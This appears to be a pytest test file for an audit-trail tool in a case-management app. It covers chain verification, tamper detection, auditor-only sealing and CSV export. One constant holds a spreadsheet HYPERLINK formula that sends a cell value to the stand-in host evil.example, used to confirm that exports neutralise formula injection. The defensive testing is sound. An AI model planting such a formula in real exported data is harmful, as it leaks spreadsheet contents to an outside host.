"""mash-admin audit: verify the chain, seal it, export a period as safe CSV."""

import csv
import datetime as dt
import io
import os
import re
import stat

import pytest
from sqlalchemy import create_engine, text

from mash_desktop.admin import signin
from mash_desktop.security.audit import record
from mash_desktop.security.credentials import WorkstationCredentials
from mash_desktop.services.audit.trail import COLUMNS, neutralise
from mash_desktop.store import pg_roles
from mash_desktop.store.database import Database
from tests.pg_roles_support import drop_roles, existing_roles

from .conftest import PASSWORD, REF

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_verify_then_tamper(mash):
    run = mash("audit", "verify", at="HUB")
    assert run.rc == 0 and run.out.startswith("Audit chain intact"), run.err
    db = Database(mash.url)
    with db.engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET actor_name = 'someone' WHERE id = 5"))
    db.dispose()
    run = mash("audit", "verify", at="CSC")
    assert run.rc == 1 and "(event 5)" in run.err and run.out == ""


def test_verify_needs_the_keys_of_an_enrolled_workstation(mash):
    run = mash("audit", "verify")
    assert run.rc == 2 and "enrolled workstation" in run.err
    run = mash("audit", "verify", "--as", "pol.officer", stdin=[PASSWORD], at="POL")
    assert run.rc == 0 and run.out.startswith("Audit chain intact"), run.err
    assert re.search(r"^Head: event \d+, hash [0-9a-f]{16}\.$", run.out, re.M)


def test_seal_needs_an_auditor(mash, tmp_path):
    witness = tmp_path / "private" / "witness.jsonl"
    run = mash("audit", "seal", "--as", "csc.lead", "--witness", str(witness), stdin=[PASSWORD], at="CSC")
    assert run.rc == 1 and "auditor" in run.err and not witness.exists()
    run = mash("audit", "seal", "--as", "hub.auditor", "--witness", str(witness), stdin=[PASSWORD], at="HUB")
    assert run.rc == 0 and re.match(r"Sealed the audit chain at event \d+", run.out), run.err
    run = mash("audit", "verify", at="HUB")
    assert run.rc == 0 and "1 signed checkpoints" in run.out
    assert stat.S_IMODE(witness.stat().st_mode) == 0o600 and stat.S_IMODE(witness.parent.stat().st_mode) == 0o700


def _event_count(url: str) -> int:
    db = Database(url)
    with db.read() as s:
        count = s.scalar(text("SELECT max(id) FROM audit_events"))
    db.dispose()
    return count


def test_a_cut_tail_with_the_head_moved_back_is_caught_by_the_witness(mash, tmp_path):
    witness = tmp_path / "witness.jsonl"
    cut = _event_count(mash.url)  # the chain as it will be left
    for _ in range(2):
        run = mash("audit", "seal", "--as", "hub.auditor", "--witness", str(witness), stdin=[PASSWORD], at="HUB")
        assert run.rc == 0, run.err
    run = mash("audit", "verify", "--witness", str(witness), at="HUB")
    assert run.rc == 0 and "2 witnessed checkpoints match" in run.out, run.err
    db = Database(mash.url)
    with db.engine.begin() as conn:  # the database owner cuts the tail, checkpoints and all
        conn.execute(text("DELETE FROM audit_checkpoints"))
        conn.execute(text("DELETE FROM audit_events WHERE id > :cut"), {"cut": cut})
        conn.execute(text("UPDATE audit_head SET last_event_id = :cut, "
                          "last_hash = (SELECT hash FROM audit_events WHERE id = :cut)"), {"cut": cut})
    db.dispose()
    assert mash("audit", "verify", at="HUB").rc == 0  # nothing in the database tells
    run = mash("audit", "verify", "--witness", str(witness), at="HUB")
    assert run.rc == 1 and f"the chain ends at event {cut}" in run.err and "line 1: event" in run.err, run.err
    assert "sealed" in run.err and "by hub.auditor" in run.err


def test_a_witness_file_that_is_not_one_is_refused(mash, tmp_path):
    notes = tmp_path / "notes.jsonl"
    notes.write_text('{"format": 1, "event_id": 3}\n')
    run = mash("audit", "verify", "--witness", str(notes), at="HUB")
    assert run.rc == 2 and "Line 1" in run.err
    run = mash("audit", "verify", "--witness", str(tmp_path / "none.jsonl"), at="HUB")
    assert run.rc == 2 and "no witness file" in run.err


@pytest.mark.parametrize("cell,safe", [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
                                       ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""),
                                       ("  =1+1", "'  =1+1"), ("\n@SUM(A1)", "'\n@SUM(A1)"), ("a -1", "a -1")])
def test_neutralise(cell, safe):
    assert neutralise(cell) == safe


def _rows(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text, newline="")))


def test_export_neutralises_formulas(mash):
    for reason in (FORMULA, "-1+1", "@SUM(A1)", "+44 7700 900123", "Plain reason"):
        run = mash("referral", "show", REF, "--as", "pol.officer", f"--reason={reason}", stdin=[PASSWORD], at="POL")
        assert run.rc == 0, run.err
    run = mash("audit", "export", "--as", "pol.lead", stdin=[PASSWORD], at="POL")
    assert run.rc == 1 and "auditor" in run.err
    run = mash("audit", "export", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
    assert run.rc == 0, run.err
    rows = _rows(run.out)
    assert tuple(rows[0]) == COLUMNS
    views = [r for r in rows[1:] if r[5] == "case.view"]
    assert [r[8] for r in views] == ["'" + FORMULA, "'-1+1", "'@SUM(A1)", "'+44 7700 900123", "Plain reason"]
    first = views[0]
    assert first[2] == "pol.officer" and first[3] == "POL" and first[6:8] == ["referral", REF]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", first[1])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    later = mash("audit", "export", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
    assert any(r[5] == "audit.export" for r in _rows(later.out))


def test_export_to_a_file_for_a_period(mash, tmp_path):
    (tmp_path / "exports").mkdir()
    out = tmp_path / "exports" / "audit.csv"
    today = dt.datetime.now(dt.timezone.utc).date()
    run = mash("audit", "export", "--from", (today - dt.timedelta(days=1)).isoformat(), "--to",
               (today + dt.timedelta(days=1)).isoformat(), "--out", str(out), "--as", "hub.auditor",
               stdin=[PASSWORD], at="HUB")
    assert run.rc == 0 and "Wrote" in run.out, run.err
    rows = _rows(out.read_text(encoding="utf-8"))
    assert len(rows) > 10 and tuple(rows[0]) == COLUMNS
    assert os.listdir(out.parent) == ["audit.csv"]  # no temporary file left behind
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    run = mash("audit", "export", "--from", (today + dt.timedelta(days=2)).isoformat(), "--as", "hub.auditor",
               stdin=[PASSWORD], at="HUB")
    assert run.rc == 0 and len(_rows(run.out)) == 1
    run = mash("audit", "export", "--from", "2026-03-02", "--to", "2026-03-01", "--as", "hub.auditor",
               stdin=[PASSWORD], at="HUB")
    assert run.rc == 2 and "ends before it starts" in run.err
    run = mash("audit", "export", "--from", "yesterday", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
    assert run.rc == 2 and "--from" in run.err
    run = mash("audit", "export", "--out", str(tmp_path / "no" / "such.csv"), "--as", "hub.auditor",
               stdin=[PASSWORD], at="HUB")
    assert run.rc == 2 and "folder does not exist" in run.err


def test_the_local_administrator_signs_with_the_workstation_key_only_where_enrolled(mash, hub_keys):
    db = Database(mash.url)
    enrolled = WorkstationCredentials("CSC", "ws-csc", hub_keys["CSC"].secret, mash.url)
    stranger = WorkstationCredentials("CSC", "ws-csc", bytes(32), mash.url)
    with db.write() as s:
        signed = record(s, signin.station_admin(db, enrolled), "trust.refused", "document", "D-1")
    assert signed.signer == "station" and mash("audit", "verify", at="POL").rc == 0
    with db.write() as s:
        unsigned = record(s, signin.station_admin(db, stranger), "trust.refused", "document", "D-2")
    db.dispose()
    assert unsigned.signer is None
    run = mash("audit", "verify", at="POL")
    assert run.rc == 1 and f"(event {unsigned.id}): it is not signed" in run.err


@pytest.fixture
def fresh_hub_role(backend, request):
    """On PostgreSQL 'init --admin' makes the agencies' roles for the whole server: drop them after."""
    if backend != "postgresql":
        yield
        return
    engine = create_engine(request.getfixturevalue("empty_db_url"))
    roles = [pg_roles.role_name(code) for code in ("HUB", "EDU")]
    drop_roles(engine, roles)
    app_existed = bool(existing_roles(engine, [pg_roles.APP_ROLE]))
    yield
    drop_roles(engine, roles + ([] if app_existed else [pg_roles.APP_ROLE]))
    engine.dispose()


def test_a_new_hub_is_signed_from_its_first_event(bare, fresh_hub_role):
    run = bare("init", "--admin", "hub.admin", "--name", "Hub Admin", stdin=[PASSWORD])
    assert run.rc == 0, run.err
    run = bare("audit", "verify")  # at the workstation init enrolled
    assert run.rc == 0 and run.out.startswith("Audit chain intact: 3 events"), run.err


def test_what_was_recorded_before_the_hub_had_any_key_is_named_unsigned(bare, fresh_hub_role):
    assert bare("init").rc == 0  # the schema alone: no hub, no keys
    assert bare("agency", "add", "EDU", "Education Safeguarding").rc == 0
    run = bare("init", "--admin", "hub.admin", "--name", "Hub Admin", stdin=[PASSWORD])
    assert run.rc == 0, run.err
    run = bare("audit", "verify")
    assert run.rc == 1 and "(event 1): it is not signed" in run.err


def test_a_row_put_at_the_next_event_id_stops_nothing_and_is_named(mash, tmp_path):
    db = Database(mash.url)
    with db.engine.begin() as conn:
        conn.execute(text("INSERT INTO audit_events (id, at, actor_name, action, object_type, prev_hash, hash) "
                          "SELECT last_event_id + 1, :at, 'nobody', 'junk', 'thing', last_hash, last_hash "
                          "FROM audit_head"), {"at": dt.datetime.now(dt.timezone.utc)})
        foreign = conn.execute(text("SELECT max(id) FROM audit_events")).scalar()
    db.dispose()
    run = mash("audit", "export", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")  # sign-in, export
    assert run.rc == 0 and ",junk," in run.out, run.err
    run = mash("audit", "seal", "--as", "hub.auditor", "--witness", str(tmp_path / "w.jsonl"), stdin=[PASSWORD],
               at="HUB")
    assert run.rc == 0, run.err
    run = mash("audit", "verify", at="HUB")
    assert run.rc == 1 and f"(event {foreign}): it is not part of the chain" in run.err
